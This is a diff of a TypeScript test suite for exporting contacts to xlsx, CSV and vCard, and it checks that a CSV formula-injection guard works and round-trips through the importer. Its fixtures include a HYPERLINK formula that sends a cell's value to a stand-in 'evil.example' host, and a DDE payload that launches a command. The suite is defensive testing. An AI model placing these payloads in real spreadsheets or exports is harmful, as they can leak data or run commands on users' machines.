@@ -1,5 +1,6 @@
 import { expect } from 'chai';
 import ExcelJS from 'exceljs';
+import JSZip from 'jszip';
 import { parse } from 'parse5';
 import { SaxesParser } from 'saxes';
 import { AppError } from '../../platform/http/errors.ts';
@@ -162,10 +163,12 @@ describe('xlsx export', () => {
     );
 
     const second = sheet.getRow(3);
+    // Text is never a formula in a workbook: written as is, no apostrophe.
     expect(second.getCell(4).value).to.equal(
-      `'=HYPERLINK("http://evil.example/?"&A1)`,
+      '=HYPERLINK("http://evil.example/?"&A1)',
     );
     expect(second.getCell(4).type).to.equal(ExcelJS.ValueType.String);
+    expect(second.getCell(4).formula).to.equal(undefined);
     expect(second.getCell(11).value).to.equal('+44 20 7946 0958');
     expect(second.getCell(23).value).to.equal('14/07');
   });
@@ -311,9 +314,64 @@ describe('Outlook CSV export', () => {
       const foreign = second?.phones?.map((p) => [p.kind, p.number]);
       expect(foreign).to.deep.include(['office', '+44 20 7946 0958']);
       expect(foreign).to.deep.include(['fax', '+44 20 7946 0000']);
-      expect(second?.addresses?.[0]?.street).to.equal(`'=cmd|"/c calc"!A1`);
+      // The formula guard is undone by the importer: the exact text comes back.
+      expect(second?.addresses?.[0]?.street).to.equal('=cmd|"/c calc"!A1');
     }
   });
+});
+
+describe('formula guard round trip', () => {
+  const tricky = () =>
+    sampleRow({
+      lastName: '=HYPERLINK("http://x")',
+      phone: '+33 1 23 45 67 89',
+      office: ['+33 1 23 45 67 89'],
+      mobile: [],
+      function: '@Rédactrice',
+      department: '-Culture',
+    });
+
+  it('writes text starting with = + - @ as plain xlsx string cells, never formulas', async () => {
+    const { bytes } = await written(writeXlsx, [tricky()]);
+    const zip = await JSZip.loadAsync(bytes);
+    const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
+    expect(xml).to.not.match(/<f[ >]/);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
+    const row = workbook.worksheets[0]!.getRow(2);
+    for (const [column, text] of [
+      [4, '=HYPERLINK("http://x")'],
+      [7, '@Rédactrice'],
+      [11, '+33 1 23 45 67 89'],
+    ] as const) {
+      expect(row.getCell(column).value).to.equal(text);
+      expect(row.getCell(column).type).to.equal(ExcelJS.ValueType.String);
+    }
+    const [back] = await readBack('contacts.xlsx', bytes);
+    expect(back?.lastName).to.equal('=HYPERLINK("http://x")');
+    expect(back?.affiliations?.[0]?.function).to.equal('@Rédactrice');
+  });
+
+  for (const [format, writer, file] of [
+    ['Outlook CSV', writeOutlookCsv, 'contacts.csv'],
+    ['Word mail-merge CSV', writeWordCsv, 'publipostage.csv'],
+  ] as const) {
+    it(`keeps the guard in ${format} and the importer undoes it exactly`, async () => {
+      for (const lang of ['fr', 'en'] as const) {
+        const { bytes } = await written(writer, [tricky()], { lang });
+        expect(bytes.toString('utf8')).to.include(
+          `"'=HYPERLINK(""http://x"")"`,
+        );
+        const [back] = await readBack(file, bytes);
+        expect(back?.lastName, lang).to.equal('=HYPERLINK("http://x")');
+        expect(back?.affiliations?.[0]?.function, lang).to.equal('@Rédactrice');
+        expect(
+          back?.phones?.map((p) => p.number),
+          lang,
+        ).to.include('+33 1 23 45 67 89');
+      }
+    });
+  }
 });
 
 describe('vCard export', () => {
@@ -376,11 +434,25 @@ describe('vCard export', () => {
         postalCode: '31000',
         city: 'Toulouse',
       });
-      expect(first?.terms).to.deep.include({
-        kind: 'category',
-        path: ['Presse'],
-      });
+      // The contact type, written as a category, comes back as the type.
+      expect(first?.contactType).to.equal('press');
+      expect(first?.terms ?? []).to.deep.equal([]);
       expect(second).to.deep.include({ civility: 'M', lastName: 'Martin' });
+      for (const lang of ['fr', 'en'] as const) {
+        const vip = await written(writer, [sampleRow({ contactType: 'vip' })], {
+          lang,
+        });
+        expect(vip.bytes.toString('utf8')).to.include('CATEGORIES:VIP\r\n');
+        const [back] = await readBack('vip.vcf', vip.bytes);
+        expect(back?.contactType, lang).to.equal('vip');
+        const maker = await written(
+          writer,
+          [sampleRow({ contactType: 'decision_maker' })],
+          { lang },
+        );
+        const [other] = await readBack('decideur.vcf', maker.bytes);
+        expect(other?.contactType, lang).to.equal('decision_maker');
+      }
     });
   }
 });
